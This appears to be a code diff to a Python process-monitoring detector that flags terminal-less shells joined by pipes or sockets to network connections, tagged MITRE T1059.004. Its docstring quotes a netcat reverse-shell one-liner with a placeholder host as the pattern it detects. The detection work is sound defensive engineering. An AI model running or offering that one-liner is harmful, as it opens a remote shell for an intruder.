@@ -1,71 +1,108 @@
-"""Interactive shells without a terminal, and who is joined to them by pipes: `sh -i <f | nc HOST PORT >f`.
+"""Shells without a terminal, and who is joined to them by pipes: `sh -i <f | nc HOST PORT >f`.
 
 A shell asks and answers at a terminal. One that was told to (`-i`) while it reads from a pipe, a FIFO or a
-socket has somebody at the other end of that; where this chain ends at a connection, somebody afar.
+socket has somebody at the other end of that; where this chain ends at a connection, somebody afar. One that
+was not told to is given its commands in the same way (`Popen(["sh"], stdin=PIPE, stdout=PIPE)`), and so are
+shells of programs that only work with one: whoever hears its answers, too, is worth a word.
 """
 
 from __future__ import annotations
 
 from collections import defaultdict
-from collections.abc import Iterator, Mapping
+from collections.abc import Iterable, Iterator, Mapping
 from typing import Final
 
 from ...host.live import Process
 from ..interface import Verdict
 from ..scene import Scene
-from .programs import SHELLS, SYSTEM, Odd, base
+from .programs import FARTHEST, SHELLS, SYSTEM, Odd, base
 
 CARRIERS: Final = (b"sshd", b"dropbear", b"emacs", b"tmux", b"screen", b"dtach", b"script", b"expect")
 """Programs that carry a shell for whoever logged in."""
 
-
-def joined(scene: Scene) -> Mapping[int, tuple[Verdict, int]]:
-    """Pid -> (what that is, the pid of such a shell) of the shells and of what stands at their other ends."""
-    return scene.once(_joined)
+TECHNIQUE: Final = "T1059.004"
 
 
 def odd(scene: Scene, process: Process) -> Iterator[Odd]:
     """What that says of a process that has a connection."""
-    verdict, shell = joined(scene).get(process.pid, (Verdict.FINE, 0))
-    if shell:
-        yield Odd(verdict, f"is joined to pid {shell}, an interactive shell without a terminal", "T1059.004")
+    if found := scene.once(_joined).get(process.pid):
+        yield found
 
 
-def _joined(scene: Scene) -> dict[int, tuple[Verdict, int]]:
-    shells = [one for one in scene.processes.values() if _is_told_to_ask(one) and _ends(scene, one.pid)[:1]]
+def _joined(scene: Scene) -> dict[int, Odd]:
+    """What there is to say of such shells and of what stands at their other ends, by pid."""
+    ends = {one.pid: _ends(scene, one.pid) for one in scene.processes.values() if _takes_commands(one)}
+    shells = [pid for pid, (stdin, _) in ends.items() if stdin]
     if not shells:
         return {}  # and nobody else is looked into
     at: dict[bytes, list[int]] = defaultdict(list)
     for pid in scene.processes:
-        for end in _ends(scene, pid):
+        ends.setdefault(pid, _ends(scene, pid))
+        for end in filter(None, ends[pid]):
             at[end].append(pid)
-    found: dict[int, tuple[Verdict, int]] = {}
-    for shell in shells:
+    found: dict[int, Odd] = {}
+    for pid in shells:
+        shell = scene.processes[pid]
         parent = scene.processes.get(shell.parent)
         if parent and base(parent).startswith(CARRIERS) and (parent.exe or b"").startswith(SYSTEM):
             continue
-        pending = [shell.pid]
-        while pending:
-            pid = pending.pop()
-            if pid not in found:
-                found[pid] = Verdict.SUSPICIOUS, shell.pid
-                pending += [other for end in _ends(scene, pid) for other in at[end]]
-        # A pair of sockets has two numbers, and whoever made it is the parent: so is a program that only
-        # works its own shell. Init is everybody's in the end.
-        if shell.parent > 1:
-            found.setdefault(shell.parent, (Verdict.NOTABLE, shell.pid))
+        # A pair of sockets or pipes has an end that is nobody's input or output, and whoever made it is the
+        # parent: so is a program that only works its own shell. Init is everybody's in the end.
+        if b"i" in _options(shell):
+            clause = f"is joined to pid {pid}, an interactive shell without a terminal"
+            for one in _reached(ends, at, pid, ends[pid]):
+                found[one] = Odd(Verdict.SUSPICIOUS, clause, TECHNIQUE)
+            makers = {shell.parent}
+        elif all(ends[pid]):
+            clause = f"is joined to pid {pid}, a shell that is given its commands, and hears what it answers"
+            stdin, stdout = ({*_reached(ends, at, pid, [end])} - {pid} for end in ends[pid])
+            others = {one for one in stdin | stdout if not _is_below(scene, one, pid)}
+            makers = others & stdin & stdout if others else {shell.parent}
+        else:
+            continue
+        for one in makers - {0, 1}:
+            found.setdefault(one, Odd(Verdict.NOTABLE, clause, TECHNIQUE))
     return found
 
 
-def _is_told_to_ask(process: Process) -> bool:
-    """`sh -i`, without a command or script to run."""
-    options = b"".join(one[1:] for one in process.argv[1:] if one[:1] == b"-" and one[:2] != b"--")
+def _reached(
+    ends: Mapping[int, tuple[bytes, bytes]], at: Mapping[bytes, list[int]], shell: int, of: Iterable[bytes]
+) -> set[int]:
+    """The shell, and who is joined to some ends of it, other than through it."""
+    found = {shell}
+    pending = list(of)
+    while pending:
+        for pid in at.get(pending.pop(), ()):
+            if pid not in found:
+                found.add(pid)
+                pending += filter(None, ends[pid])
+    return found
+
+
+def _is_below(scene: Scene, pid: int, shell: int) -> bool:
+    """Whether a process is what the shell started."""
+    for _ in range(FARTHEST):
+        process = scene.processes.get(pid)
+        if process is None or process.parent == shell:
+            return process is not None
+        pid = process.parent
+    return False
+
+
+def _options(process: Process) -> bytes:
+    return b"".join(one[1:] for one in process.argv[1:] if one[:1] == b"-" and one[:2] != b"--")
+
+
+def _takes_commands(process: Process) -> bool:
+    """`sh`, without a command or script to run."""
     words = [one for one in process.argv[1:] if one[:1] != b"-"]
-    return base(process) in SHELLS and b"i" in options and b"c" not in options and not words
+    return base(process) in SHELLS and b"c" not in _options(process) and not words
 
 
-def _ends(scene: Scene, pid: int) -> list[bytes]:
-    """Where its standard input and output lead, if that is to somebody else."""
+def _ends(scene: Scene, pid: int) -> tuple[bytes, bytes]:
+    """Where its standard input and output lead, b"" for nobody else."""
     origin = scene.host.live.origin(pid)
     streams = origin.streams[:2] if origin is not None else ()
-    return [one for one in streams if one.startswith((b"pipe:", b"socket:", b"/")) and one[:5] != b"/dev/"]
+    leads = [one.startswith((b"pipe:", b"socket:", b"/")) and one[:5] != b"/dev/" for one in streams]
+    stdin, stdout = [one if lead else b"" for one, lead in zip(streams, leads, strict=True)] or (b"", b"")
+    return stdin, stdout
